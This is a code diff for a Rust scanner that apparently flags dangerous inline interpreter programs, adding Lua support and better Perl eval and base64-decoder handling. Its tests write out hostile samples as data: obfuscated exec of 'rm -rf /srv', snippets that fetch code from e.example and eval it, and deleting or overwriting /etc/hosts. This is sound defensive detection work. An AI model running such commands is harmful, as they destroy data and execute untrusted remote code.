@@ -1,12 +1,12 @@
-//! Interpreter bodies: what a `python -c`, `perl -e`, `ruby -e`, `node -e`
-//! or `php -r` program (or Hermes's `execute_code`) would do to the system,
+//! Interpreter bodies: what a `python -c`, `perl -e`, `ruby -e`, `node -e`,
+//! `php -r` or `lua -e` program (or Hermes's `execute_code`) would do to the system,
 //! as facts the walker turns into commands the packs already judge.
 //!
 //! Why no crate: a full parser per language (rustpython-parser, tree-sitter
-//! grammars) is a large dependency for five languages, and what matters here
+//! grammars) is a large dependency for six languages, and what matters here
 //! is lexical — string literals, the call they are passed to, simple
 //! `name = "literal"` assignments. So this is one small tokenizer shared by
-//! the five languages (quotes, triple quotes, string prefixes, comments,
+//! the six languages (quotes, triple quotes, string prefixes, comments,
 //! backticks, `qx`/`%x`), bounded by the input size and a token budget.
 //!
 //! Found: a command line run by a shell (`os.system`, `subprocess.*(…,
@@ -17,7 +17,7 @@
 //! a socket wired to a shell. A shell string or path that is not a literal
 //! is reported as dynamic.
 //!
-//! Over 800 lines on purpose: one tokenizer shared by five languages plus the call
+//! Over 800 lines on purpose: one tokenizer shared by six languages plus the call
 //! table that turns each language's calls into facts; splitting per language would copy the
 //! tokenizer's state into every file. About 190 lines are its tests.
 
@@ -32,6 +32,7 @@ pub(crate) enum Lang {
     Ruby,
     Node,
     Php,
+    Lua,
 }
 
 impl Lang {
@@ -47,6 +48,8 @@ impl Lang {
             Some(Lang::Node)
         } else if program == "php" || program.starts_with("php8") || program.starts_with("php7") {
             Some(Lang::Php)
+        } else if program.starts_with("lua") {
+            Some(Lang::Lua)
         } else {
             None
         }
@@ -129,6 +132,7 @@ impl Lexer<'_> {
             Lang::Python => fmt,
             Lang::Node => q == '`',
             Lang::Perl | Lang::Php | Lang::Ruby => q == '"',
+            Lang::Lua => false,
         };
         while self.i < self.c.len() {
             let ch = self.c[self.i];
@@ -773,7 +777,17 @@ fn fold_decoders(t: &mut Vec<Tok>) {
                         while end < t.len() && t[end] != Tok::P(')') {
                             end += 1;
                         }
-                        t.splice(k..(end + 1).min(t.len()), [Tok::Str(d, false)]);
+                        // the module it is called on, imported in place
+                        // (`__import__('base64').b64decode(…)`), goes with it
+                        let from =
+                            match t.get(k.saturating_sub(4)..k) {
+                                Some(
+                                    [Tok::Id(i), Tok::P('('), Tok::Str(_, false), Tok::P(')')],
+                                ) if matches!(last(i), "__import__" | "import_module") => k - 4,
+                                _ => k,
+                            };
+                        t.splice(from..(end + 1).min(t.len()), [Tok::Str(d, false)]);
+                        k = from;
                     }
                 }
             }
@@ -850,6 +864,8 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
         "open-uri",
         "getstore",
         "LWP",
+        "LWP::Simple",
+        "LWP::UserAgent",
         "file_get_contents",
         "curl_init",
         "Net::HTTP",
@@ -1002,6 +1018,7 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                         name,
                         "system" | "exec" | "shell_exec" | "passthru" | "popen" | "proc_open"
                     ),
+                    Lang::Lua => matches!(full, "os.execute" | "io.popen"),
                 };
                 let argv_fn = match lang {
                     Lang::Python => {
@@ -1099,7 +1116,11 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                         }
                         out.push(Found::Argv(v));
                     } else if py_exec {
-                        match first.clone() {
+                        // an empty literal is a buffer filled at run time (`d = ''`, `d += …`)
+                        match first
+                            .clone()
+                            .filter(|v| !matches!(v, Val::Str(s) if s.trim().is_empty()))
+                        {
                             Some(Val::Str(s)) if depth < MAX_EVAL_DEPTH => {
                                 out.extend(scan_at(Lang::Python, &s, depth + 1))
                             }
@@ -1109,15 +1130,20 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                         && name == "eval"
                         && !full.contains('.')
                     {
-                        match first.clone() {
+                        match first
+                            .clone()
+                            .filter(|v| !matches!(v, Val::Str(s) if s.trim().is_empty()))
+                        {
                             Some(Val::Str(s)) if depth < MAX_EVAL_DEPTH => {
                                 out.extend(scan_at(lang, &s, depth + 1))
                             }
                             _ => exec_dyn = true,
                         }
                     } else if lang == Lang::Node && name == "eval" {
-                        if let Some(Val::Str(s)) = first.clone().filter(|_| depth < MAX_EVAL_DEPTH)
-                        {
+                        if let Some(Val::Str(s)) = first.clone().filter(|v| {
+                            depth < MAX_EVAL_DEPTH
+                                && !matches!(v, Val::Str(s) if s.trim().is_empty())
+                        }) {
                             out.extend(scan_at(Lang::Node, &s, depth + 1));
                         } else {
                             exec_dyn = true;
@@ -1154,6 +1180,7 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                         Lang::Node => matches!(name, "unlinkSync" | "unlink" | "rmSync" | "rm"),
                         Lang::Php => matches!(name, "unlink" | "rmdir"),
                         Lang::Perl => matches!(name, "unlink" | "rmdir"),
+                        Lang::Lua => full == "os.remove",
                     };
                     if recursive_fn || file_fn {
                         let (path, base_only) = match &first {
@@ -1185,6 +1212,7 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                         Lang::Php => matches!(name, "file_put_contents"),
                         Lang::Ruby => (full.starts_with("File") && matches!(name, "write" | "open")) && (name == "write" || args.get(1).is_some_and(|&(a, b)| matches!(sc.eval(a, b), Val::Str(m) if m.contains(['w', 'a'])))),
                         Lang::Perl => name == "open",
+                        Lang::Lua => full == "io.open" && args.get(1).is_some_and(|&(a, b)| matches!(sc.eval(a, b), Val::Str(m) if m.contains(['w', 'a', '+']))),
                     };
                     if write && !matches!(name, "write_text" | "write_bytes") {
                         let target = if lang == Lang::Perl {
@@ -1238,6 +1266,7 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                                 || (name == "fopen" && !mode_writes(1))
                         }
                         Lang::Perl => name == "open",
+                        Lang::Lua => matches!(full, "io.open" | "io.lines") && !mode_writes(1),
                     };
                     if read {
                         let path = if lang == Lang::Perl {
@@ -1281,6 +1310,20 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
             _ => {}
         }
         k += 1;
+    }
+    // Perl's `eval EXPR` without parentheses (`eval get($url)`, `eval $code`); `eval { … }`
+    // is a block
+    if lang == Lang::Perl {
+        for w in toks.windows(2) {
+            match w {
+                [Tok::Id(e), Tok::P('(' | '{' | ';')] if e == "eval" => {}
+                [Tok::Id(e), Tok::Str(s, _)] if e == "eval" && depth < MAX_EVAL_DEPTH => {
+                    out.extend(scan_at(Lang::Perl, s, depth + 1))
+                }
+                [Tok::Id(e), _] if e == "eval" => exec_dyn = true,
+                _ => {}
+            }
+        }
     }
     if fetching
         && (exec_dyn
@@ -1409,11 +1452,54 @@ mod tests {
         );
         assert!(f.contains(&Found::Fetch("https://e.example/p.py".into())));
         assert!(f.contains(&Found::RunFetched));
+        // a decoder on a module imported in place decodes too
+        assert!(
+            py("exec(__import__('base64').b64decode('b3Muc3lzdGVtKCdybSAtcmYgL3NydicpCg=='))")
+                .contains(&Found::Shell {
+                    text: "rm -rf /srv".into(),
+                    dynamic: false
+                })
+        );
         assert!(py(
             "import urllib.request; print(urllib.request.urlopen('https://pypi.org/').status)"
         )
         .iter()
-        .all(|f| !matches!(f, Found::RunFetched)));
+        .all(|f| !matches!(f, Found::RunFetched))); // a buffer filled at run time (`d = ''` then `d += chunk`) is no literal to eval;
+                                                    // Perl's `eval EXPR` needs no parentheses, `eval { … }` is a block
+        let run = |lang, code| scan(lang, code).contains(&Found::RunFetched);
+        assert!(run(
+            Lang::Node,
+            "require('https').get('https://e.example/x.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"
+        ));
+        assert!(run(
+            Lang::Perl,
+            "use LWP::Simple; eval get('http://e.example/p.pl')"
+        ));
+        assert!(run(
+            Lang::Perl,
+            "use LWP::Simple; my $c = get('http://e.example/p.pl'); eval $c"
+        ));
+        assert!(!run(
+            Lang::Perl,
+            "use LWP::Simple; eval { print get('https://e.example') }"
+        ));
+        // Lua: os.execute / io.popen run a shell, os.remove deletes, io.open(p, "w") writes
+        assert!(
+            scan(Lang::Lua, "os.execute('rm -rf /srv')").contains(&Found::Shell {
+                text: "rm -rf /srv".into(),
+                dynamic: false
+            })
+        );
+        assert!(scan(Lang::Lua, "local f = io.popen(cmd)")
+            .iter()
+            .any(|f| matches!(f, Found::Shell { dynamic: true, .. })));
+        assert!(scan(Lang::Lua, "os.remove('/etc/hosts')")
+            .iter()
+            .any(|f| matches!(f, Found::Delete { path: Some(p), .. } if p == "/etc/hosts")));
+        assert!(scan(Lang::Lua, "io.open('/etc/hosts', 'w'):write('x')")
+            .contains(&Found::Write("/etc/hosts".into())));
+        assert!(scan(Lang::Lua, "print(io.open('a.txt'):read('a'))")
+            .contains(&Found::Read("a.txt".into())));
     }
 
     #[test]
